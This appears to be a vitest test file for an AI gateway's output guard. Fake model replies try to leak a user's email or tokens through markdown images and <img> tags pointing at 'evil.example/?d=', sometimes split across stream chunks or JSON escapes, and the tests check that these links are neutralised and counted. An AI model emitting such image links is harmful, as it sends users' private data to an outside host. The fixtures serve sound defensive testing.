import { describe, expect, it } from "vitest";
import * as z from "zod";
import { createAiGateway } from "../create-ai-gateway.js";
import { defineTask } from "../define-task.js";
import type { AiGatewayOptions } from "../gateway-options.js";
import { patternOutputGuard } from "../output/guard/pattern-output-guard.js";
import { conversationTask } from "../tasks/conversation/conversation-task.js";
import { type FakeReply, fakeProvider } from "../testing/fake-provider.js";
import { memoryAuditSink } from "../testing/memory-audit-sink.js";
import type { DecisionRecord } from "./decision-record.js";

const silent = { info() {}, warn() {}, error() {} };
const ask = defineTask({
  name: "ask",
  input: z.object({ text: z.string() }),
  output: z.object({ reply: z.string() }),
  textField: "reply",
  allow: "anyone",
  prompt: ({ text }) => ({ messages: [{ role: "user", content: text }] }),
  local: () => ({ reply: "![local](https://cdn.example/a.png)" }),
});
const plan = defineTask({
  name: "plan",
  input: z.object({ text: z.string() }),
  output: z.object({ title: z.string(), steps: z.array(z.string()) }),
  allow: "anyone",
  prompt: ({ text }) => ({ messages: [{ role: "user", content: text }] }),
});
const evil = "https://evil.example/?d=";

function setUp(reply: FakeReply | ((said: string) => FakeReply), options: AiGatewayOptions = {}) {
  const provider = fakeProvider(({ prompt }) =>
    typeof reply === "function" ? reply(prompt.messages[0]?.content ?? "") : reply,
  );
  const decisions: Readonly<DecisionRecord>[] = [];
  const auditSink = memoryAuditSink();
  const gateway = createAiGateway({
    provider,
    tasks: [ask, plan],
    auditSink,
    logger: silent,
    hooks: { onSettled: (decision) => void decisions.push(decision) },
    ...options,
  });
  return { gateway, provider, decisions, auditSink };
}

describe("guardReply", () => {
  it("lets no image carry a user's value away, whole, in a stream, from the cache", async () => {
    const leak = (said: string) => {
      const [token = ""] = /\[EMAIL_\w+\]/.exec(said) ?? [];
      return { text: [..."Done. ![x](", ..."https://evil.exa", ...`mple/?d=${token}) Bye, ${token}.`] };
    };
    const { gateway, decisions } = setUp(leak);
    const input = { text: "I am ada@example.com" };
    const shown = "Done. ![x](#) Bye, ada@example.com.";
    expect((await gateway.run(ask, input)).reply).toBe(shown);
    let text = "";
    for await (const event of gateway.stream(ask, input)) {
      if (event.type === "text-delta") text += event.delta;
      if (event.type === "finish") expect(event.reply.reply).toBe(shown);
    }
    expect(text).toBe(shown);
    expect(decisions.map(({ outputFindings }) => outputFindings)).toEqual([{ image: 1 }, { image: 1 }]);

    const cached = setUp({ text: `![x](${evil}1)` });
    for (const source of ["model", "cache"]) {
      const { reply, metadata } = await cached.gateway.run(ask, { text: "hello" });
      expect([reply, metadata.source]).toEqual(["![x](#)", source]);
    }
  });

  it("lets no value that comes back be an image, a tag or a link off the list, at every split", async () => {
    const url = "https://ada:hunter2secret@evil.example/a.png";
    const secret = "sk_live_4eC39HqLyjWDarjtT1zdp7dc";
    const leak = (size: number) => (said: string) => {
      const [token = ""] = /\[\w+_0001\]/.exec(said) ?? [];
      const text = `One ![x](${token}) two <img src="${token}"> three [y](${token}) four ${token}.`;
      return { text: text.match(new RegExp(`[^]{1,${size}}`, "g")) ?? [] };
    };
    const outputGuard = patternOutputGuard({ allowedLinks: ["docs.example"] });
    for (let size = 1; size <= 40; size += 3) {
      const { gateway, decisions } = setUp(leak(size), { outputGuard });
      let text = "";
      for await (const event of gateway.stream(ask, { text: `See ${url}` })) {
        if (event.type === "text-delta") text += event.delta;
        if (event.type === "finish") expect(event.reply.reply).toBe(text);
      }
      expect(text).not.toMatch(/!\[x\]\(http|<img|\(https/);
      expect(text).toContain("ada:hunter2secret"); // the user's own value is there, and leads nowhere
      expect(decisions[0]?.outputFindings).toMatchObject({ image: 1, html: 1 });
    }
    const plain = setUp((said) => ({ text: `Your key is ${said.split(" ").at(-1)}` }), { outputGuard });
    expect((await plain.gateway.run(ask, { text: `My key: ${secret}` })).reply).toContain(secret);
    const known = ["![Bob](https://evil.example/b.png)"];
    const named = setUp((said) => ({ text: `Hello ${said}!` }));
    const { reply } = await named.gateway.run(ask, { text: known[0] ?? "" }, { known: { person: known } });
    expect(reply).toBe("Hello ![Bob](#)!");
  });

  it("guards every text of an object, also while it grows", async () => {
    const value = {
      title: `A ![x](${evil}1)`,
      steps: ["one", `<img src="${evil}2">`, `\u0021[y](${evil}3)`],
    };
    const json = JSON.stringify(value).replace("![y", "\\u0021[y").replaceAll("/", "\\/");
    const { gateway, decisions } = setUp({ text: json.match(/[\s\S]{1,9}/g) ?? [] });
    const partials: unknown[] = [];
    for await (const event of gateway.stream(plan, { text: "x" })) {
      if (event.type === "partial") partials.push(event.partial);
      if (event.type === "finish") partials.push({ title: event.reply.title, steps: event.reply.steps });
    }
    expect(partials.length).toBeGreaterThan(2);
    expect(JSON.stringify(partials)).not.toMatch(/\]\(https|<img/);
    expect(partials.at(-1)).toEqual({
      title: "A ![x](#)",
      steps: ["one", `&lt;img src="${evil}2">`, "![y](#)"],
    });
    expect(decisions[0]?.outputFindings).toEqual({ image: 2, html: 1 });
  });

  it("counts personal values that the model invented, and masks them when it enforces", async () => {
    const text = "Ask made.up@example.org, not you.";
    const observing = setUp({ text });
    expect((await observing.gateway.run(ask, { text: "I am ada@example.com" })).reply).toBe(text);
    expect(observing.decisions[0]?.outputFindings).toEqual({ sensitive_value: 1 });

    const detect = (sentence: string) =>
      [...sentence.matchAll(/\S+@\S+\w/g)].map(({ 0: value, index }) => ({
        type: "email",
        start: index,
        end: index + value.length,
      }));
    const outputGuard = patternOutputGuard({ sensitiveValues: "enforce", detect });
    const echo = (said: string) => ({ text: `Ask made.up@example.org, not ${said}.` });
    const enforcing = setUp(echo, { outputGuard });
    const { reply } = await enforcing.gateway.run(ask, { text: "ada@example.com" });
    expect(reply).toBe("Ask [EMAIL], not ada@example.com.");
  });

  it("leaves the product's own local answers and the arguments of tools alone", async () => {
    const local = createAiGateway({ tasks: [ask], auditSink: memoryAuditSink(), logger: silent });
    expect((await local.run(ask, { text: "x" })).reply).toContain("https://cdn.example/a.png");
    const agent = conversationTask({ name: "agent", allow: "anyone" });
    const call = { id: "1", name: "post", arguments: JSON.stringify({ html: `<img src="${evil}">` }) };
    const { gateway } = setUp({ text: `![x](${evil})`, toolCalls: [call] });
    const { text, tool_calls } = await gateway.run(agent, {
      messages: [{ role: "user", content: "go" }],
      tools: [{ name: "post", parameters: { type: "object" } }],
    });
    expect(text).toBe("![x](#)");
    expect(tool_calls).toEqual([call]);
  });

  it.each([undefined, false] as const)(
    "counts placeholders that the model made up, with the guard %s",
    async (outputGuard) => {
      const agent = conversationTask({ name: "agent", allow: "anyone" });
      const invent = (said: string) => ({
        text: `${said} ${said.replace("0001", "0099")} [PHONE_zzzz_0001] [docs_page_12]`,
        toolCalls: [
          { id: "1", name: "post", arguments: JSON.stringify({ to: [said, said.replace("0001", "0002")] }) },
        ],
      });
      const { gateway, decisions, auditSink } = setUp(invent, { outputGuard });
      const input = {
        messages: [{ role: "user" as const, content: "ada@example.com" }],
        tools: [{ name: "post", parameters: { type: "object" } }],
      };
      const { text } = await gateway.run(agent, input);
      expect(text).toMatch(/^ada@example\.com \[EMAIL_\w{4}_0099\] \[PHONE_zzzz_0001\] \[docs_page_12\]$/);
      for await (const event of gateway.stream(agent, input)) void event;
      expect(decisions.map(({ outputFindings }) => outputFindings.invented_placeholder)).toEqual([3, 3]);
      expect(auditSink.records.at(-1)?.output_findings).toMatchObject({ invented_placeholder: 3 });
    },
  );

  it("does nothing when there is none", async () => {
    const text = `![x](${evil})`;
    const { gateway, decisions } = setUp({ text }, { outputGuard: false });
    expect((await gateway.run(ask, { text: "x" })).reply).toBe(text);
    expect(decisions[0]?.outputFindings).toEqual({});
  });

  it("starts anew with another answer", async () => {
    const replies: FakeReply[] = [{ text: ["Here ![x", "]("], cut: true }, { text: "Fine." }];
    let turn = 0;
    const { gateway } = setUp(() => replies[Math.min(turn++, 1)] ?? {}, { retry: { baseDelayMs: 0 } });
    const events: string[] = [];
    for await (const event of gateway.stream(ask, { text: "x" }, { onBreak: "restart" })) {
      if (event.type === "text-delta") events.push(event.delta);
      else events.push(event.type);
    }
    expect(events.slice(events.indexOf("reset") + 1).join("")).toBe("Fine.finish");
    expect(events.join("")).not.toContain("](");
  });
});
